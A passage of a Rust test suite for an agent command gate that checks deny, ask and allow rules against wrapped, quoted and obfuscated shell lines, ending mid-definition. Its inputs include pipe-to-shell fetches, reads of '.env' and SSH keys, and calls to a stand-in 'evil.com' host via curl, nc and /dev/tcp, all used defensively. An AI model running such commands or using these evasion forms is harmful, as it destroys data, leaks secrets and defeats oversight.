//! Command lines before the gate: every part is judged, and deny rules see through what is written around a command.

use crate::support::{self, allow, ask, check, deny, judged, policy, shell, subject};
use proptest::prelude::*;
use runyard_domain::gate::command::{Opening, Unparsed, parse};
use runyard_domain::gate::{
    Because, Beyond, Clause, Effect, Note, Policy, Request, Risk, Rule, RuleKind, judge,
};

use Effect::{Allow, Ask, Deny};
use RuleKind::{Deploy, GitCommit, GitPush, Network, Publish, Read, Shell, Write};

#[track_caller]
fn because(rules: &[Rule], line: &str, expected: &Because) {
    assert_eq!(judged(rules, line).because, *expected, "{line}");
}

/// Ways to write, and to wrap, `rm x`.
const HIDDEN: [&str; 81] = [
    "rm x",
    "rm",
    "a && rm x",
    "rm x && a",
    "a || rm x",
    "a; rm x",
    "a\nrm x",
    "a & rm x",
    "rm x &",
    "a | rm x",
    "sh -c 'rm x'",
    "bash -lc \"rm x\"",
    "/bin/bash -lc 'a && rm x'",
    "sh -c \"sh -c 'rm x'\"",
    "dash -c 'rm x'",
    "zsh -c 'rm x'",
    "env X=Y rm x",
    "env -i rm x",
    "env -S 'rm x'",
    "/usr/bin/env rm x",
    "/bin/rm x",
    "./rm x",
    "X=1 rm x",
    "$(rm x)",
    "`rm x`",
    "echo $(rm x)",
    "echo \"$(rm x)\"",
    "echo \"`rm x`\"",
    "cat <(rm x)",
    "a > $(rm x)",
    "X=$(rm x)",
    "X=$(rm x) a",
    "echo ${y:-$(rm x)}",
    "echo x | xargs rm",
    "xargs -0 -n 1 rm -f",
    "find . -exec rm {} +",
    "find . -exec rm {} \\;",
    "find . -execdir sh -c 'rm x' \\;",
    "command rm",
    "builtin rm",
    "exec rm x",
    "nohup rm x",
    "nice -n 5 rm x",
    "timeout 5 rm x",
    "sudo rm x",
    "sudo -u root -- rm x",
    "doas rm x",
    "stdbuf -oL rm x",
    "setsid rm x",
    "time rm x",
    "time -p rm x",
    "time -- rm x",
    "time -p -- rm x",
    "/usr/bin/time -v rm x",
    "env -- X=1 rm x",
    "genv gnice rm x",
    "find . -exec env -u + rm x \\;",
    "ksh93 -c 'rm x'",
    "eval 'rm x'",
    "eval rm x",
    "trap 'rm x' EXIT",
    "\\rm x",
    "'r'm x",
    "r''m x",
    "\"rm\" x",
    "$'\\x72m' x",
    "{ rm x; }",
    "(rm x)",
    "! rm x",
    "if true; then rm x; fi",
    "while a; do rm x; done",
    "for f in *; do rm $f; done",
    "f() { rm x; }; f",
    "sh <<EOF\nrm x\nEOF",
    "cat <<EOF\n$(rm x)\nEOF",
    "busybox rm x",
    "r\\\nm x",
    "i\\\nf rm x; then a; fi",
    "X\\\n=1 rm x",
    "f\\\nor x in 1; do rm x; done",
    "!\\\n rm x",
];

/// Programs that run the command that stands after them, or in a text that they are given.
const RUNNERS: [&str; 58] = [
    "prlimit --nofile=9",
    "setarch -R",
    "linux64",
    "x86_64 -R",
    "setpriv --no-new-privs",
    "chrt -i 0",
    "taskset 1",
    "numactl -l",
    "choom -n 0 --",
    "flock lock",
    "script -c",
    "watch",
    "entr",
    "parallel",
    "runuser -u me --",
    "su -c",
    "sg me -c",
    "newgrp",
    "systemd-run --user",
    "systemd-inhibit",
    "run0",
    "gosu me",
    "unshare -r",
    "nsenter -t 1",
    "chroot /",
    "gchroot /",
    "bwrap --bind / /",
    "firejail",
    "faketime now",
    "eatmydata",
    "catchsegv",
    "strace",
    "ltrace",
    "gdb --args",
    "gdbserver :1",
    "valgrind",
    "perf stat",
    "xvfb-run",
    "dbus-run-session --",
    "dbus-launch",
    "ssh-agent",
    "gpg-agent --daemon",
    "start-stop-daemon --start --exec",
    "unbuffer",
    "rlwrap",
    "chronic",
    "tini --",
    "ip netns exec a",
    "coreutils --coreutils-prog=rm",
    "/lib64/ld-linux-x86-64.so.2 /bin/rm",
    "/lib/ld-musl-x86_64.so.1 /bin/rm",
    "/proc/self/exe -c",
    "/dev/fd/3",
    "jobs -x",
    "repeat 2",
    "emulate sh -c",
    "coproc x {",
    "time -o x",
];

#[test]
fn c11_a_deny_rule_holds_however_the_command_is_written() {
    for line in HIDDEN {
        check(&[deny(Shell, "rm *")], line, Deny);
        let anything = Rule::new(Allow, Shell, None).unwrap();
        check(&[anything, allow(Shell, "*"), deny(Shell, "rm *")], line, Deny);
        let judgement = judged(&[deny(Shell, "rm *")], line);
        let rule =
            Because::Rule { id: "deny shell rm *".to_owned(), scope: runyard_domain::gate::Scope::Always };
        assert_eq!(judgement.because, rule, "{line}");
    }
    for line in ["echo rm", "rmdir x", "git rm x", "ls --rm", "echo 'rm x'", "command -v rm", "xrm"] {
        check(&[deny(Shell, "rm *")], line, Ask);
    }
}

#[test]
fn c11_a_deny_rule_on_a_script_holds_for_the_shell_that_runs_it() {
    for line in
        ["./x.sh a", "bash x.sh a", "sh -eu ./x.sh a", ". ./x.sh a", "source x.sh a", "sudo bash dir/x.sh a"]
    {
        check(&[allow(Shell, "*"), deny(Shell, "x.sh *")], line, Deny);
        check(&[allow(Shell, "*"), deny(Shell, "x.sh a")], line, Deny);
        check(&[allow(Shell, "*"), deny(Shell, "x.sh b")], line, Allow);
    }
    check(&[allow(Shell, "x.sh *")], "bash x.sh", Ask);
    check(&[allow(Shell, "*"), deny(Shell, "x.sh *")], "cat x.sh", Allow);
}

#[test]
fn c11_a_deny_rule_holds_for_what_a_tool_runs_in_an_environment() {
    let rules = [allow(Shell, "*"), deny(Shell, "rm *")];
    for line in ["uv run rm x", "poetry run rm", "bundle exec rm x", "npx rm -f x", "sh -c 'npm exec rm'"] {
        check(&rules, line, Deny);
    }
    let may = Because::MayMatch { id: "deny shell rm *".to_owned() };
    for line in
        ["uv run --with a rm x", "npm exec -- rm x", "cross-env X=1 rm x", "uv -q run rm", "direnv exec . rm"]
    {
        because(&rules, line, &may);
    }
    for line in ["uv run pytest", "uv rm x", "uv add run", "npx tsc -rm", "poetry rm run", "npx", "x run rm"]
    {
        check(&rules, line, Allow);
    }
    // Its own rule is enough to allow it.
    check(&[allow(Shell, "uv run *")], "uv run pytest", Allow);
    check(&[allow(Shell, "pytest")], "uv run pytest", Ask);
    check(&[allow(Shell, "*"), ask(Shell, "rm *")], "uv run rm x", Ask);
}

#[test]
fn c11_what_cannot_be_known_is_denied_if_it_mentions_a_denied_program() {
    let rules = [deny(Shell, "rm *")];
    for line in
        ["X=rm; $X y", "echo rm x | sh", "eval \"$Y rm\"", "case x in x) rm y;; esac", "parallel rm ::: x"]
    {
        check(&rules, line, Deny);
        because(&rules, line, &Because::Mentions { id: "deny shell rm *".to_owned() });
    }
    for line in [
        "case x in x) 'r'm y;; esac",
        "case x in x) r\\m y;; esac",
        "case x in x) r\\\nm y;; esac",
        "sh -c '$1 x' _ rm",
    ] {
        check(&rules, line, Deny);
    }
    for line in ["alias a=rm\na x", "hash -p /bin/rm a; a x", "let 'x[$(rm y)]'", "mapfile -C rm <<< x"] {
        because(&rules, line, &Because::Mentions { id: "deny shell rm *".to_owned() });
    }
    for program in RUNNERS {
        because(&rules, &format!("{program} rm x"), &Because::Mentions { id: "deny shell rm *".to_owned() });
        check(&[allow(Shell, "*")], &format!("{program} rm x"), Ask);
    }
    for line in ["$X confirm rm_x xrm", "case x in x) farm;; esac"] {
        check(&rules, line, Ask);
    }
    // A shell joins continued lines before it looks for what they hold.
    for line in ["echo \"$\\\n(rm x)\"", "echo $\\\n(rm x)", "a <<\\\n-E\nE\nrm x\n-E\n"] {
        check(&rules, line, Deny);
    }
    for line in ["$X npm-cli", "$X a;npm-cli", "case x in x) (npm-cli);; esac", "$X 'n'pm-cli"] {
        because(&[deny(Shell, "npm*")], line, &Because::Mentions { id: "deny shell npm*".to_owned() });
    }
    check(&[deny(Shell, "npm*")], "$X xnpm", Ask);
    check(&[deny(Shell, "/bin/rm *")], "$X rm", Deny);
    let everything = Rule::new(Deny, Shell, None).unwrap();
    check(std::slice::from_ref(&everything), "case x in esac", Deny);
    check(std::slice::from_ref(&everything), "", Deny);
    check(&[Rule::new(Deny, RuleKind::Any, None).unwrap()], "a", Deny);
    // A rule about every command is about these too, and says so itself.
    let all = judged(&[Rule::new(Deny, Shell, None).unwrap()], "a $((1$");
    assert!(all.effect == Deny && matches!(all.because, Because::Rule { .. }), "{all}");
}

#[test]
fn c11_what_cannot_be_known_is_asked_about_whatever_is_allowed() {
    let all = [Rule::new(Allow, Shell, None).unwrap(), allow(Shell, "*"), allow(Shell, "sh *")];
    for line in ["$X y", "sh -c \"$X\"", "sh", "eval $X", "echo a | sh", "parallel a", "env --weird a"] {
        check(&all, line, Ask);
        because(&all, line, &Because::Opaque);
    }
    because(&all, "case x in esac", &Because::Unparsed { why: Unparsed::Construct });
    because(&all, "'", &Because::Unparsed { why: Unparsed::Unfinished });
    check(&all, "sh script.sh", Allow);
}

#[test]
fn c11_if_every_part_is_allowed_the_line_is() {
    let rules = [allow(Shell, "a"), allow(Shell, "b *")];
    for line in
        ["a && b", "a; b x", "a | b", "(a)", "{ a; }", "if a; then b; fi", "b $x", "b \"$(a)\"", "b *.md"]
    {
        check(&rules, line, Allow);
    }
    for line in [
        "bash -lc 'a && b x'",
        "env X=1 a",
        "timeout 5 a",
        "xargs b",
        "time a",
        "nohup a 2>/dev/null",
        "X=1 a",
    ] {
        check(&rules, line, Allow);
    }
    for line in [
        "a && c",
        "a x",
        "a; c",
        "b $(c)",
        "sh -c 'a; c'",
        "sudo a",
        "xargs a",
        "c",
        "X=1",
        "$x",
        "a $x",
        "ab",
    ] {
        check(&rules, line, Ask);
    }
    let judgement = judged(&rules, "a && c");
    let effects: Vec<(&str, Effect)> =
        judgement.parts.iter().map(|part| (part.what.as_str(), part.effect)).collect();
    assert_eq!(effects, [("a", Allow), ("c", Ask)]);
    check(&[allow(Shell, "sudo *"), allow(Shell, "a")], "sudo a", Allow);
    check(&[allow(Shell, "find *")], "find . -exec a \\;", Ask);
    check(&[allow(Shell, "find *")], "find . -name a", Allow);
}

#[test]
fn c11_wrappers_can_be_denied_and_asked_about_themselves() {
    let a = allow(Shell, "a");
    check(&[a.clone(), deny(Shell, "timeout *")], "timeout 5 a", Deny);
    check(&[a.clone(), ask(Shell, "bash *")], "bash -c a", Ask);
    check(&[a.clone(), deny(Shell, "sudo *")], "sudo a", Deny);
    check(&[a, deny(Shell, "env")], "env a", Allow);
}

#[test]
fn c11_command_patterns_match_word_by_word() {
    check(&[allow(Shell, "git status")], "git status", Allow);
    check(&[allow(Shell, "git status")], "git status -s", Ask);
    check(&[allow(Shell, "git status *")], "git status -s x", Allow);
    check(&[allow(Shell, "git status *")], "git status", Allow);
    check(&[allow(Shell, "git * x")], "git a x", Allow);
    check(&[allow(Shell, "git * x")], "git a b x", Ask);
    check(&[allow(Shell, "git * x")], "git $a x", Ask);
    check(&[allow(Shell, "tool * x")], "tool $a x", Allow);
    check(&[allow(Shell, "git * x")], "git a", Ask);
    check(&[allow(Shell, "npm run test:*")], "npm run test:unit", Allow);
    check(&[allow(Shell, "npm run test:*")], "npm run test:unit x", Ask);
    check(&[allow(Shell, "npm run test:*")], "npm run $x", Ask);
    check(&[allow(Shell, "npm run test:*")], "npm run 'build'", Ask);
    check(&[allow(Shell, "/usr/bin/ls")], "/usr/bin/ls", Allow);
    check(&[allow(Shell, "/usr/bin/ls")], "/tmp/ls", Ask);
    check(&[allow(Shell, "/usr/bin/ls")], "ls", Ask);
    for installed in ["/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin"] {
        check(&[allow(Shell, "ls")], &format!("{installed}/ls"), Allow);
    }
    // Another program of that name may be the agent's own.
    for written in ["./ls", "bin/ls", "/tmp/ls", "../ls", "/usr/bin/../../tmp/ls", "//ls", "/ls", "~/ls"] {
        check(&[allow(Shell, "ls")], written, Ask);
        check(&[allow(Shell, "ls *")], &format!("{written} -l"), Ask);
        check(&[allow(Shell, "l*")], written, Ask);
        check(&[deny(Shell, "ls *")], written, Deny);
    }
    check(&[allow(Shell, "*")], "./ls", Allow);
    check(&[allow(Shell, "* -l")], "./ls -l", Allow);
    check(&[allow(Shell, "./ls")], "./ls", Allow);
    check(&[allow(Shell, "git log 'x y'")], "git log \"'x\" \"y'\"", Allow);
    check(&[deny(Shell, "*")], "a b", Deny);
    check(&[deny(Shell, "*")], "X=1", Deny);
}

#[test]
fn c11_a_deny_rule_that_may_match_is_asked_about() {
    let rules = [allow(Shell, "*"), deny(Shell, "git push *")];
    for line in ["git $x origin", "git --paginate $x", "git $x", "git -C $d $x"] {
        because(&rules, line, &Because::MayMatch { id: "deny shell git push *".to_owned() });
    }
    for line in
        ["git push", "git -C d push x", "git -c a=b push", "git --no-pager push", "git --git-dir d push"]
    {
        check(&rules, line, Deny);
    }
    for line in ["git log push", "git status", "git --version"] {
        check(&rules, line, Allow);
    }
    let rules = [allow(Shell, "*"), deny(Shell, "tool apply *")];
    check(&rules, "tool -n space apply -f x", Ask);
    check(&rules, "tool +x apply", Ask);
    check(&rules, "tool -n $x", Ask);
    check(&rules, "tool get apply", Allow);
    check(&rules, "tool -n get", Allow);
    check(&rules, "tool apply", Deny);
    check(&[allow(Shell, "*"), deny(Shell, "a * z")], "a $x b", Ask);
    check(&[allow(Shell, "*"), deny(Shell, "a * z")], "a $x b z", Ask);
    check(&[allow(Shell, "*"), deny(Shell, "a b")], "a b $x", Ask);
    check(&[allow(Shell, "*"), deny(Shell, "a b")], "a b c", Allow);
    check(&[allow(Shell, "*"), ask(Shell, "a b")], "a $x", Ask);
    check(&[allow(Shell, "*"), ask(Shell, "a b")], "a c", Allow);
    // A rule without subcommand words says nothing about options.
    check(&[allow(Shell, "*"), deny(Shell, "a -x")], "a -y", Allow);
}

#[test]
fn c11_an_allow_rule_for_commands_covers_no_redirection() {
    let rules = [allow(Shell, "git status"), allow(Shell, "echo *"), allow(Shell, "sh *")];
    check(&rules, "git status", Allow);
    check(&rules, "git status; x", Ask);
    because(&rules, "git status > .git/config", &Because::Protected { path: ".git/config".to_owned() });
    for line in [
        "git status > out",
        "git status >> out",
        "git status 2> out",
        "git status &> out",
        "sh -c 'git status' > out",
    ] {
        because(&rules, line, &Because::Beyond(Beyond::Redirection { path: "out".to_owned() }));
    }
    for line in ["(git status) > out", "> out", "echo $(git status > out)"] {
        check(&rules, line, Ask);
    }
    for line in ["git status > /dev/null", "git status 2>&1", "git status < in"] {
        check(&rules, line, Allow);
    }
    let written = [allow(Shell, "echo *"), allow(Write, "logs/**")];
    check(&written, "echo a > logs/x", Allow);
    check(&written, "echo a > logs/../x", Ask);
    check(&written, "echo a > logs/.env", Ask);
    check(&written, "echo a > logs/$x", Ask);
    check(&written, "cd sub && echo a > logs/x", Ask);
}

#[test]
fn c11_an_allow_rule_for_commands_covers_no_variable_that_changes_what_runs() {
    let rules = [allow(Shell, "git *"), allow(Shell, "export *"), allow(Shell, "a *")];
    for (line, name) in [
        ("PATH=/x git status", "PATH"),
        ("LD_PRELOAD=x git status", "LD_PRELOAD"),
        ("env GIT_SSH_COMMAND=x git status", "GIT_SSH_COMMAND"),
        ("export PATH=/x; a", "PATH"),
        ("export PATH+=:/x", "PATH"),
        ("BASH_ENV=x bash -c a", "BASH_ENV"),
        ("git -c core.pager=x log", "-c"),
        ("git --exec-path=/x log", "--exec-path=/x"),
        ("xargs env IFS=x a", "IFS"),
    ] {
        let judgement = judged(&rules, line);
        assert_eq!(judgement.effect, Ask, "{line}");
        let expected = Because::Beyond(Beyond::Variable { name: name.to_owned() });
        assert!(judgement.parts.iter().any(|part| part.because == expected), "{line}: {:?}", judgement.parts);
    }
    for line in ["RUST_LOG=x git status", "export X=1", "export PATH", "git log -c", "env X=1 a"] {
        check(&rules, line, Allow);
    }
}

#[test]
fn c11_deny_rules_on_paths_hold_for_commands_that_write_them() {
    let rules = [allow(Shell, "*"), deny(Write, "keep/**")];
    for line in [
        "echo a > keep/x",
        "a >> ./keep/x",
        "rm keep/x",
        "rm -rf keep",
        "mv keep/x y",
        "mv y keep/x",
        "cp a keep/x",
        "cp keep a -t keep",
        "cp --target-directory=keep a",
        "tee keep/x",
        "touch a keep/x",
        "mkdir -p keep/x",
        "rm -- keep/x",
        "chmod 600 keep/x",
        "sed -i s/a/b/ keep/x",
        "dd if=a of=keep/x",
        "ln -s a keep/x",
        "truncate keep/x",
        "curl x -o keep/x",
        "cd keep && rm x",
        "cd a; rm ../keep/x",
        "rm /home/me/code/keep/x",
        "git rm keep/x",
        "git -C keep rm x",
        "git --work-tree=keep checkout x",
        "sort --output=keep/x y",
        "sh -c 'rm keep/x'",
        "a | tee -a keep/x",
        "cp x keep",
        "cp a/keep .",
    ] {
        check(&rules, line, Deny);
    }
    for line in [
        "rm other/x",
        "echo keep/x",
        "chmod keep x",
        "ls keep/x",
        "sed s/a/b/ keep/x",
        "dd if=keep/x",
        "cp keep/x y",
        "sed s/i/j/ keep/x",
        "sed --expression=s/i/j/ keep/x",
    ] {
        check(&rules, line, Allow);
    }
    for line in ["rm -r .", "rm $x", "cd $x && rm y", "mv . ../x", "git -C a rm x", "cd && touch y"] {
        check(&rules, line, Ask);
    }
    check(&[allow(Shell, "*"), ask(Write, "keep/**")], "rm keep/x", Ask);
    let rules = [allow(Shell, "*"), deny(Read, ".env"), deny(Read, "keep/**")];
    for line in [
        "cat .env",
        "cat < .env",
        "x --file=.env",
        "curl -d @.env",
        "cat keep/a",
        "cat ./a/.env",
        "cat /w/.env",
    ] {
        check(&rules, line, Deny);
    }
    for line in ["echo .env", "echo $x", "cat env", "x --env"] {
        check(&rules, line, Allow);
    }
    let rules = [allow(Shell, "*"), deny(Read, "*.key")];
    for line in ["x a.key", "x -- -a.key", "x --file=a.key", "x --file=-a.key", "x @a.key"] {
        check(&rules, line, Deny);
    }
    check(&rules, "x a -a.key", Deny);
    for line in ["x --a.key", "x --file=a"] {
        check(&rules, line, Allow);
    }
    for line in ["x", "x ''", "x --file=", "x --"] {
        check(&[allow(Shell, "*"), deny(Read, "**")], line, Allow);
    }
}

#[test]
fn c11_what_goes_with_its_directory_is_asked_about() {
    let rules = |pattern: &str| [allow(Shell, "*"), deny(Write, pattern)];
    #[track_caller]
    fn check_all(rules: &[Rule], asked: &[&str], allowed: &[&str]) {
        for line in asked {
            let id = rules[1].id().to_owned();
            assert_eq!(judged(rules, line).because, Because::MayMatch { id }, "{line}");
        }
        for line in allowed {
            check(rules, line, Allow);
        }
    }
    check_all(
        &rules("a/keep/**"),
        &["rm -r a", "rm -r .", "mv a b", "git rm -r a"],
        &["rm -r b", "rm -r a/b", "rm a"],
    );
    check_all(&rules("a/*/keep"), &["rm -r a", "rm -r a/b"], &["rm -r b", "mv b/a c"]);
    check_all(&rules("a?/keep"), &["rm -r b"], &["rm b"]);
    check_all(&rules("keep.txt"), &["rm -r a", "mv a b"], &["rm a"]);
    check_all(&rules("/etc/a/**"), &["rm -r /etc"], &["rm -r etc"]);
    check(&rules("/etc/a/**"), "rm -r /usr", Ask);
    because(&rules("/etc/a/**"), "rm -r /usr", &Because::Beyond(Beyond::Outside { path: "/usr".to_owned() }));
}

#[test]
fn c11_a_command_may_not_write_protected_paths_or_outside_unless_its_rule_names_them() {
    let rules = [allow(Shell, "*")];
    for (line, path) in [
        ("rm .git/index.lock", ".git/index.lock"),
        ("rm -rf .git", ".git"),
        ("cp x .git/hooks", ".git/hooks"),
        ("tee .env", ".env"),
        ("cp runyard.toml .", "runyard.toml"),
        ("touch /w/.codex/x", "/w/.codex/x"),
    ] {
        because(&rules, line, &Because::Protected { path: path.to_owned() });
    }
    for (line, path) in
        [("rm /etc/x", "/etc/x"), ("touch ../x", "../x"), ("cd .. && rm x", "../x"), ("rm ~/x", "~/x")]
    {
        because(&rules, line, &Because::Beyond(Beyond::Outside { path: path.to_owned() }));
    }
    // Above the root there is only the root.
    because(&rules, "rm /../etc/./x", &Because::Beyond(Beyond::Outside { path: "/etc/x".to_owned() }));
    check(&[allow(Shell, "*"), deny(Write, "/etc/**")], "rm /a/../../etc/x", Deny);
    for (line, path) in [
        ("git config alias.x '!rm y'", ".git/config"),
        ("git config --add core.pager x", ".git/config"),
        ("git config --unset core.pager", ".git/config"),
        ("git config --remove-section core", ".git/config"),
        ("git config -e", ".git/config"),
        ("git config --edit", ".git/config"),
        ("git config edit", ".git/config"),
        ("git config set core.pager x", ".git/config"),
        ("git config --global core.pager x", "~/.gitconfig"),
        ("git config -f .gitmodules core.pager x", ".gitmodules"),
        ("git config --file .gitmodules core.pager x", ".gitmodules"),
    ] {
        because(&rules, line, &Because::Protected { path: path.to_owned() });
    }
    for line in [
        "git config core.pager",
        "git config --get core.pager x",
        "git config get core.pager",
        "git config get core.pager x",
        "git config --list x y",
        "git config -l --show-origin",
        "git config list x",
        "git config",
        "git config -f x core.pager y",
        "git diff alias.x y",
    ] {
        check(&rules, line, Allow);
    }
    check(&[allow(Shell, "rm .git/index.lock")], "rm .git/index.lock", Allow);
    check(&[allow(Shell, "rm .git/*")], "rm .git/index.lock", Ask);
    check(&[allow(Shell, "rm *"), allow(Write, ".git/**")], "rm .git/index.lock", Allow);
    check(&[allow(Shell, "rm /tmp/x")], "rm /tmp/x", Allow);
    check(&[allow(Shell, "rm *"), allow(Write, "/tmp/**")], "rm /tmp/x", Allow);
    check(&rules, "cat .git/config", Allow);
    check(&rules, "rm x", Allow);
    check(&rules, "cd sub && rm ../x", Ask);
}

#[test]
fn c11_commands_that_reach_hosts_are_judged_by_rules_for_the_network() {
    let rules = [allow(Shell, "*"), deny(Network, "*.evil.com")];
    for line in [
        "x https://a.evil.com/b",
        "curl https://a.evil.com",
        "curl a.evil.com/x",
        "wget 'http://me:pw@a.evil.com:80/x?y'",
        "ssh me@a.evil.com ls",
        "scp x me@a.evil.com:y",
        "git clone https://a.evil.com/x",
        "git clone git@a.evil.com:x",
        "nc a.evil.com 80",
        "curl \"https://a.evil.com/$x\"",
        "sh -c 'curl https://A.EVIL.com'",
        "a > /dev/tcp/a.evil.com/80",
        "a < /dev/udp/a.evil.com/80",
    ] {
        check(&rules, line, Deny);
    }
    check(&rules, "echo https://a.evil.com", Allow);
    check(&rules, "x https://good.com", Allow);
    for line in ["curl https://good.com", "curl $x", "curl", "git fetch", "ssh $host"] {
        check(&rules, line, Ask);
    }
    let named = [allow(Shell, "curl *"), allow(Shell, "git fetch *"), allow(Shell, "ls")];
    check(&named, "curl https://good.com", Allow);
    check(&named, "git fetch origin", Allow);
    check(&[allow(Shell, "git *")], "git fetch origin", Ask);
    let rules = [allow(Shell, "git fetch *"), deny(Network, "bad.com")];
    because(&rules, "git fetch origin", &Because::MayMatch { id: "deny network bad.com".to_owned() });
    check(&rules, "git fetch good.com:x", Allow);
    because(&[allow(Shell, "*")], "curl x", &Because::Default { clause: Clause::Network });
    check(&[allow(Shell, "*"), allow(Network, "good.com")], "curl https://good.com", Allow);
    check(&[allow(Shell, "*"), allow(Network, "good.com")], "curl https://bad.com", Ask);
    check(&[allow(Shell, "*"), allow(Network, "good.com")], "curl $x", Ask);
    check(&[allow(Shell, "*"), allow(Network, "*")], "curl \"https://$x\"", Allow);
    check(&[allow(Shell, "*"), allow(Network, "*")], "curl $x", Ask);
    check(&[allow(Shell, "curl *"), deny(Network, "bad.com")], "curl $x", Ask);
    check(&[allow(Shell, "curl *"), Rule::new(Deny, Network, None).unwrap()], "curl $x", Deny);
    check(&[allow(Shell, "curl *"), deny(Network, "::1")], "curl http://[::1]:80/x", Deny);
}

#[test]
fn c11_commits_pushes_publishing_and_deploying_are_judged_by_their_own_rules() {
    let all = allow(Shell, "*");
    for (line, clause) in [
        ("git commit -m x", Clause::GitCommit),
        ("git -C d commit", Clause::GitCommit),
        ("git push origin main", Clause::GitPush),
        ("sh -c 'git push'", Clause::GitPush),
        ("npm publish", Clause::Publish),
        ("npm --prefix x publish", Clause::Publish),
        ("cargo publish", Clause::Publish),
        ("twine upload x", Clause::Publish),
        ("docker push x", Clause::Publish),
        ("kubectl apply -f x", Clause::Deploy),
        ("terraform apply", Clause::Deploy),
        ("ansible-playbook x", Clause::Deploy),
    ] {
        because(std::slice::from_ref(&all), line, &Because::Default { clause });
    }
    check(&[all.clone(), deny(GitPush, "origin main")], "git push origin main", Deny);
    check(&[all.clone(), deny(GitPush, "origin main")], "git push -f origin main", Deny);
    check(&[all.clone(), deny(GitPush, "origin main")], "git push fork main", Ask);
    check(&[all.clone(), allow(GitPush, "origin *"), allow(Network, "*")], "git push origin \"b-$b\"", Allow);
    check(&[all.clone(), allow(GitPush, "origin *"), allow(Network, "*")], "git push origin $b", Ask);
    check(&[all.clone(), deny(GitPush, "* main")], "git push origin $b", Ask);
    check(&[Rule::new(Deny, GitPush, None).unwrap()], "a && git push", Deny);
    check(&[all.clone(), deny(GitCommit, "wip*"), allow(GitCommit, "*")], "git commit -am 'wip x'", Deny);
    check(
        &[all.clone(), deny(GitCommit, "wip*"), allow(GitCommit, "*")],
        "git commit --message='wip x'",
        Deny,
    );
    check(&[all.clone(), deny(GitCommit, "wip*"), allow(GitCommit, "*")], "git commit -F x", Ask);
    check(&[all.clone(), deny(GitCommit, "wip*"), allow(GitCommit, "*")], "git commit -m x", Allow);
    check(&[Rule::new(Deny, GitCommit, None).unwrap()], "git commit", Deny);
    check(&[deny(GitCommit, "wip*")], "git commit -m 'wip x'", Deny);
    check(&[all.clone(), allow(GitCommit, "fix*")], "git commit -m 'fix x'", Allow);
    check(&[all.clone(), allow(GitCommit, "fix*")], "git commit -m \"fix $x\"", Ask);
    check(&[Rule::new(Deny, Publish, None).unwrap()], "npm publish", Deny);
    check(&[deny(Deploy, "kubectl * prod*")], "kubectl apply -n prod", Deny);
    check(&[deny(Deploy, "*")], "kubectl apply $x", Deny);
    check(&[all, allow(Deploy, "*")], "kubectl apply $x", Allow);
    check(&[allow(Shell, "git commit *")], "git commit -m x", Allow);
    check(&[allow(Shell, "git *")], "git commit -m x", Ask);
    check(&[allow(Shell, "git push *")], "git push origin", Allow);
    check(&[allow(Shell, "npm *")], "npm test", Allow);
    check(&[allow(Shell, "npm *")], "npm publish", Ask);
    check(&[allow(Shell, "kubectl get *")], "kubectl get pods", Allow);
}

#[test]
fn c12_the_risk_of_commands() {
    #[track_caller]
    fn risk(line: &str, expected: Risk) {
        assert_eq!(judged(&[], line).risk, expected, "{line}");
    }
    for line in [
        "sudo ls",
        "doas a",
        "su -c a",
        "rm -rf x",
        "rm -r x",
        "rm --recursive x",
        "sh -c 'rm -fR x'",
        "curl x | sh",
        "curl -s x | sudo bash",
        "wget -O- x | python3",
        "curl x | env python",
        "sh -c \"$(curl x)\"",
        "bash <(curl x)",
        "cat .env",
        "cat ~/.ssh/id_rsa",
        "x < .env.local",
        "git push",
        "npm publish",
        "kubectl apply -f x",
        "touch /x",
        "a > ../x",
        "cd .. && touch x",
    ] {
        risk(line, Risk::High);
    }
    for line in [
        "curl x; python y",
        "curl x | ls",
        "touch x",
        "rm x",
        "rm readme",
        "rm --force x",
        "a > x",
        "curl x",
        "git commit",
        "git fetch",
        "'",
        "$X",
        "python x.py",
        "./x.sh",
        "make",
        "node -e 1",
        "npm run x",
        "bash x.sh",
        "awk 1",
        "echo a | sh",
        ". ./x",
        "python3.11 x",
        "",
    ] {
        risk(line, Risk::Medium);
    }
    for line in ["ls", "a && b", "sh -c ls", "cat x", "/usr/bin/ls", "/bin/ls", "x https://y.com", "a | b"] {
        risk(line, Risk::Low);
    }
}

#[test]
fn c11_interpreters_are_said_to_be_bounded_by_the_sandbox_only() {
    let notes = |line: &str| judged(&[], line).notes;
    let bounded = |program: &str| Note::BoundedBySandboxOnly { program: program.to_owned() };
    assert_eq!(notes("python x.py && python y.py; make"), [bounded("python"), bounded("make")]);
    assert_eq!(notes("sh -c 'node x'"), [bounded("node")]);
    assert_eq!(notes("bash x.sh"), [bounded("bash")]);
    assert_eq!(notes("ls"), []);
    assert_eq!(notes("curl x | sh"), [bounded("sh"), Note::RunsWhatItFetched]);
    check(&[allow(Shell, "python *")], "python x.py", Allow);
}

#[test]
fn c11_the_directory_of_a_command_counts() {
    let rules = policy(&[allow(Shell, "*"), deny(Write, "keep/**")]);
    let judged = |cwd: &str, line: &str| {
        let request = Request::Shell { command: line.to_owned(), cwd: cwd.to_owned() };
        judge(&rules, &subject(), &request).effect
    };
    assert_eq!(judged("keep", "rm x"), Deny);
    assert_eq!(judged("keep/a", "rm ../x"), Deny);
    assert_eq!(judged("a", "rm keep/x"), Allow);
    assert_eq!(judged("a", "rm ../keep/x"), Deny);
    assert_eq!(judged("/tmp", "rm x"), Ask);
    let many: String = (0..40).map(|n| format!("cd d{n};")).collect();
    assert_eq!(judged(".", &format!("{many} rm x")), Ask);
    // Where it may be in too many directories, it is no longer known where a path leads.
    let changed = |times: usize| {
        (0..times).map(|n| format!("cd /d{n};")).chain(["rm x".to_owned()]).collect::<String>()
    };
    let because = |line: &str| judge(&rules, &subject(), &shell(line)).because;
    assert_eq!(because(&changed(14)), Because::Beyond(Beyond::Outside { path: "/d0/x".to_owned() }));
    assert_eq!(because(&changed(15)), Because::MayMatch { id: "deny write keep/**".to_owned() });
}

fn simple_command() -> impl Strategy<Value = String> {
    let program =
        prop::sample::select(vec!["a", "b", "git", "rm", "curl", "npm", "sudo", "env", "tee", "./x"]);
    let word = prop::sample::select(vec![
        "push",
        "status",
        "-f",
        "x",
        "keep/x",
        "$y",
        "*",
        ".git/x",
        "https://e.com",
        "publish",
        "'q r'",
        "/etc/x",
        "> out",
        "2>&1",
        "commit",
        "a",
    ]);
    (program, prop::collection::vec(word, 0..4))
        .prop_map(|(program, words)| format!("{program} {}", words.join(" ")))
}

fn some_rule() -> impl Strategy<Value = Rule> {
    let effect = prop::sample::select(vec![Allow, Ask, Deny]);
    let what = prop::sample::select(vec![
        (Shell, None),
